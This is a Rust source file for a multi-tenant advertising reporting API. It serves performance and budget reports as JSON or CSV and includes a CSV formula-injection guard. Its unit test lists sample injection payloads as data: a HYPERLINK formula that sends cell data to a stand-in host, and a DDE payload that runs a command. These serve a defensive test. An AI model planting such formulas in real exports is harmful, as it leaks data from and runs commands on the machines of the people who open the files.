//! The reporting API: performance and budget pacing over the tenant's reporting views, as JSON
//! or CSV. Same auth and isolation as every tenant route (another tenant's report is 404).

use actix_web::http::header::{ACCEPT, CONTENT_DISPOSITION, CONTENT_TYPE};
use actix_web::{get, web, HttpRequest, HttpResponse};
use ams_store::reports::{Dimension, Granularity, PerformanceQuery, Range, Report};
use ams_store::{TenantSchema, TenantScope};
use chrono::{DateTime, NaiveDate, Utc};
use serde::{Deserialize, Serialize};
use serde_json::Value;
use utoipa::{IntoParams, ToSchema};
use uuid::Uuid;

use crate::scope::TenantPath;
use crate::error::{ApiError, ErrorBody};
use crate::ApiState;

/// The longest range one report covers.
const MAX_DAYS: i64 = 400;
const MAX_LIMIT: i64 = 10_000;

#[derive(Debug, Deserialize, IntoParams)]
#[into_params(parameter_in = Query)]
pub struct PerformanceParams {
    /// Start: a date (`2026-11-01`, the marketplace's own day) or an RFC 3339 instant; default:
    /// six days before `to`.
    pub from: Option<String>,
    /// End: a date (included) or an RFC 3339 instant (excluded); default: today (UTC).
    pub to: Option<String>,
    /// `hour`, `day` (default) or `total`.
    pub granularity: Option<String>,
    /// Comma-separated: account, marketplace, product, campaign, ad_group, ad, target, placement.
    pub group_by: Option<String>,
    /// An account id of the tenant (uuid), or an Amazon advertiser id.
    pub account: Option<String>,
    /// A marketplace code (`US`) or Amazon marketplace id.
    pub marketplace: Option<String>,
    /// `SP`, `SB` or `SD`.
    pub product: Option<String>,
    /// A campaign id.
    pub campaign: Option<String>,
    /// A column of the result, `-` first for descending (`-cost`).
    pub sort: Option<String>,
    /// At most this many rows (default 1000, at most 10000).
    pub limit: Option<i64>,
    /// `json` (default) or `csv` (also with `Accept: text/csv`).
    pub format: Option<String>,
}

/// A report: its columns in order and its rows. Money and ratios are decimal strings (exact).
#[derive(Debug, Serialize, ToSchema)]
pub struct ReportBody {
    pub columns: Vec<String>,
    #[schema(value_type = Vec<Object>)]
    pub rows: Vec<serde_json::Map<String, Value>>,
}

fn bad(message: String) -> ApiError {
    ApiError::invalid(message)
}

/// One end of the range.
enum End {
    Date(NaiveDate),
    Instant(DateTime<Utc>),
}

fn parse_end(name: &str, s: &str) -> Result<End, ApiError> {
    if let Ok(d) = NaiveDate::parse_from_str(s, "%Y-%m-%d") {
        return Ok(End::Date(d));
    }
    DateTime::parse_from_rfc3339(s)
        .map(|t| End::Instant(t.with_timezone(&Utc)))
        .map_err(|_| bad(format!("{name} must be a date (2026-11-01) or an RFC 3339 instant (2026-11-01T00:00:00Z), not {s:?}")))
}

pub(crate) fn range(from: Option<&str>, to: Option<&str>) -> Result<Range, ApiError> {
    let today = Utc::now().date_naive();
    let to = to.map(|t| parse_end("to", t)).transpose()?.unwrap_or(End::Date(today));
    let from = match from {
        Some(f) => parse_end("from", f)?,
        None => match &to {
            End::Date(d) => End::Date(*d - chrono::Duration::days(6)),
            End::Instant(t) => End::Instant(*t - chrono::Duration::days(7)),
        },
    };
    let r = match (from, to) {
        (End::Date(a), End::Date(b)) => Range::Dates(a, b),
        (End::Instant(a), End::Instant(b)) => Range::Instants(a, b),
        _ => return Err(bad("from and to must both be dates or both be instants".into())),
    };
    let days = match r {
        Range::Dates(a, b) if b < a => return Err(bad("to is before from".into())),
        Range::Instants(a, b) if b <= a => return Err(bad("to must be after from".into())),
        Range::Dates(a, b) => (b - a).num_days() + 1,
        Range::Instants(a, b) => (b - a).num_days(),
    };
    if days > MAX_DAYS {
        return Err(bad(format!("the range covers {days} days; at most {MAX_DAYS}")));
    }
    Ok(r)
}

/// The Amazon advertiser ids an `account` parameter names.
pub(crate) async fn advertisers(scope: &TenantScope, account: Option<&str>) -> Result<Option<Vec<String>>, ApiError> {
    let Some(a) = account else { return Ok(None) };
    match Uuid::parse_str(a) {
        Ok(id) => {
            let acc = scope.account(id).await?.ok_or_else(|| ApiError::not_found("account"))?;
            match acc.advertiser_id().await? {
                Some(adv) => Ok(Some(vec![adv])),
                None => Err(bad(format!(
                    "account {id} has no Amazon advertiser id (accounts imported from an Ads connection have one): filter by advertiser id instead"
                ))),
            }
        }
        Err(_) => Ok(Some(vec![a.to_owned()])),
    }
}

pub(crate) fn marketplace_id(m: Option<&str>) -> Result<Option<String>, ApiError> {
    let Some(m) = m else { return Ok(None) };
    ams_model::MARKETPLACES
        .iter()
        .find(|x| x.code == m || x.marketplace_id == m)
        .map(|x| Some(x.marketplace_id.to_owned()))
        .ok_or_else(|| bad(format!("unknown marketplace {m:?}: a code (US, DE, JP, …) or an Amazon marketplace id")))
}

fn wants_csv(req: &HttpRequest, format: Option<&str>) -> Result<bool, ApiError> {
    match format {
        Some("csv") => Ok(true),
        Some("json") => Ok(false),
        Some(f) => Err(bad(format!("format must be json or csv, not {f:?}"))),
        None => Ok(req.headers().get(ACCEPT).and_then(|v| v.to_str().ok()).is_some_and(|a| a.contains("text/csv"))),
    }
}

/// The report as the caller asked: JSON, or CSV (a header line, then one line per row).
pub(crate) fn answer(report: Report, csv: bool, name: &str) -> Result<HttpResponse, ApiError> {
    if !csv {
        return Ok(HttpResponse::Ok().json(ReportBody { columns: report.columns, rows: report.rows }));
    }
    let mut w = csv::Writer::from_writer(Vec::new());
    let fail = |e: csv::Error| ApiError::new(crate::error::ErrorCode::Internal, e.to_string());
    w.write_record(&report.columns).map_err(fail)?;
    for row in &report.rows {
        w.write_record(report.columns.iter().map(|c| match row.get(c) {
            Some(Value::String(s)) => spreadsheet_safe(s),
            Some(Value::Null) | None => String::new(),
            Some(v) => v.to_string(),
        }))
        .map_err(fail)?;
    }
    let bytes = w.into_inner().map_err(|e| fail(e.into_error().into()))?;
    Ok(HttpResponse::Ok()
        .insert_header((CONTENT_TYPE, "text/csv; charset=utf-8"))
        .insert_header((CONTENT_DISPOSITION, format!("attachment; filename=\"{name}.csv\"")))
        .body(bytes))
}

/// A text cell no spreadsheet evaluates (OWASP's CSV-injection rule): one that begins with `=`,
/// `+`, `-`, `@`, a tab or a carriage return gets a leading `'`, which spreadsheets show as text.
/// Numbers stay numbers (`-1.50`, a correction, is not touched). Names come from Amazon as anyone
/// who may rename a campaign typed them, so `=HYPERLINK(…)` is a name like any other.
pub(crate) fn spreadsheet_safe(cell: &str) -> String {
    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    if risky && cell.parse::<f64>().is_err() {
        format!("'{cell}")
    } else {
        cell.to_owned()
    }
}

/// Performance (impressions, clicks, cost, orders, units, sales, CTR, CPC, CVR, ACOS, ROAS) of
/// Sponsored Products, Brands and Display, by hour, day or in total, grouped and filtered.
/// Days and local hours are each marketplace's own (its time zone); sums never mix currencies.
#[utoipa::path(
    tag = "reports",
    params(("tenant" = String, Path, description = "tenant slug"), PerformanceParams),
    responses(
        (status = 200, description = "the report (JSON; CSV with `Accept: text/csv` or `format=csv`)", body = ReportBody),
        (status = 400, description = "a malformed query", body = ErrorBody),
        (status = 404, description = "no such tenant or account (or not yours)", body = ErrorBody),
        (status = 422, description = "a parameter out of what is allowed (the message says what is)", body = ErrorBody),
        (status = 429, description = "the tenant runs as many reports at once as allowed (`AMS_HUB_REPORTS_PER_TENANT`); `Retry-After`", body = ErrorBody),
        (status = 503, description = "`timeout`: the query ran longer than `AMS_HUB_API_STATEMENT_TIMEOUT_MS`", body = ErrorBody),
    ),
)]
#[get("/v1/tenants/{tenant}/reports/performance")]
pub async fn performance(
    at: TenantPath,
    state: web::Data<ApiState>,
    params: web::Query<PerformanceParams>,
    req: HttpRequest,
) -> Result<HttpResponse, ApiError> {
    let scope = at.scope;
    let p = params.into_inner();
    let csv = wants_csv(&req, p.format.as_deref())?;
    let granularity = match p.granularity.as_deref() {
        None => Granularity::Day,
        Some(g) => Granularity::parse(g)
            .ok_or_else(|| bad(format!("granularity must be one of {}, not {g:?}", Granularity::NAMES.join(", "))))?,
    };
    let mut group_by = Vec::new();
    for d in p.group_by.as_deref().unwrap_or("").split(',').map(str::trim).filter(|d| !d.is_empty()) {
        group_by.push(Dimension::parse(d).ok_or_else(|| {
            let all: Vec<&str> = Dimension::ALL.iter().map(|d| d.name()).collect();
            bad(format!("cannot group by {d:?}; allowed: {}", all.join(", ")))
        })?);
    }
    let product = match p.product.as_deref() {
        None => None,
        Some(x @ ("SP" | "SB" | "SD")) => Some(x.to_owned()),
        Some(x) => return Err(bad(format!("product must be SP, SB or SD, not {x:?}"))),
    };
    let limit = p.limit.unwrap_or(1000);
    if !(1..=MAX_LIMIT).contains(&limit) {
        return Err(bad(format!("limit must be 1 to {MAX_LIMIT}")));
    }
    let sort = p.sort.as_deref().filter(|s| !s.is_empty()).map(|s| match s.strip_prefix('-') {
        Some(c) => (c.to_owned(), true),
        None => (s.to_owned(), false),
    });
    if let Some(c) = p.campaign.as_deref() {
        if c.is_empty() || c.len() > 100 {
            return Err(bad("campaign must be 1 to 100 characters".into()));
        }
    }
    let query = PerformanceQuery {
        range: range(p.from.as_deref(), p.to.as_deref())?,
        granularity,
        group_by,
        advertisers: advertisers(&scope, p.account.as_deref()).await?,
        marketplace_id: marketplace_id(p.marketplace.as_deref())?,
        product,
        campaign_id: p.campaign,
        sort,
        limit,
    };
    let _slot = state.report_slot(scope.slug().as_str())?;
    let report = state.store.performance(&TenantSchema::of(scope.slug()), &query).await?;
    answer(report, csv, "performance")
}

#[derive(Debug, Deserialize, IntoParams)]
#[into_params(parameter_in = Query)]
pub struct BudgetParams {
    /// An account id of the tenant (uuid), or an Amazon advertiser id.
    pub account: Option<String>,
    /// A marketplace code (`US`) or Amazon marketplace id.
    pub marketplace: Option<String>,
    /// `json` (default) or `csv` (also with `Accept: text/csv`).
    pub format: Option<String>,
}

/// Budget pacing: the latest usage Amazon reported for every budget scope, with its budget,
/// the share used, an estimate of what is spent, and when it was reported (UTC and local).
#[utoipa::path(
    tag = "reports",
    params(("tenant" = String, Path, description = "tenant slug"), BudgetParams),
    responses(
        (status = 200, description = "budget scopes, most used first", body = ReportBody),
        (status = 400, description = "a malformed query", body = ErrorBody),
        (status = 404, description = "no such tenant or account (or not yours)", body = ErrorBody),
        (status = 422, description = "an unknown marketplace or format", body = ErrorBody),
        (status = 429, description = "the tenant runs as many reports at once as allowed (`AMS_HUB_REPORTS_PER_TENANT`); `Retry-After`", body = ErrorBody),
        (status = 503, description = "`timeout`: the query ran longer than `AMS_HUB_API_STATEMENT_TIMEOUT_MS`", body = ErrorBody),
    ),
)]
#[get("/v1/tenants/{tenant}/reports/budgets")]
pub async fn budgets(
    at: TenantPath,
    state: web::Data<ApiState>,
    params: web::Query<BudgetParams>,
    req: HttpRequest,
) -> Result<HttpResponse, ApiError> {
    let scope = at.scope;
    let p = params.into_inner();
    let csv = wants_csv(&req, p.format.as_deref())?;
    let advertisers = advertisers(&scope, p.account.as_deref()).await?;
    let market = marketplace_id(p.marketplace.as_deref())?;
    let _slot = state.report_slot(scope.slug().as_str())?;
    let report = state.store.budget_pacing(&TenantSchema::of(scope.slug()), advertisers.as_deref(), market.as_deref()).await?;
    answer(report, csv, "budgets")
}

#[cfg(test)]
mod tests {
    use super::spreadsheet_safe;

    #[test]
    fn formulas_are_written_as_text_and_numbers_stay_numbers() {
        for formula in ["=HYPERLINK(\"https://x.example/?d=\"&A2,\"open\")", "+cmd|' /C calc'!A0", "-2+3+cmd", "@SUM(1+1)*cmd", "\tx", "\rx"] {
            assert_eq!(spreadsheet_safe(formula), format!("'{formula}"));
        }
        for plain in ["-1.50", "+3", "-0", "1e3", "SP - Earbuds - Exact", "", "50.00"] {
            assert_eq!(spreadsheet_safe(plain), plain);
        }
    }
}
